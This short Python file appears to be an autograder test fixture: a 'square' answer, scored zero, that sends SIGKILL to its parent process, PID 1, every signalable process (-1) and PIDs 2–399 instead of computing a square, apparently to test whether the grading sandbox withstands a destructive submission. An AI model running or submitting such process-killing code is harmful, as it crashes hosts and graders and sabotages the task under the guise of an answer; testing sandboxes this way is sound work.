"""Kills every process that it can see."""

POINTS = {"test_square": 0.0}
ANSWERS = {
    "square": """
import os
import signal


def square(x):
    for number in (os.getppid(), 1, -1, *range(2, 400)):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    return 0
""",
}
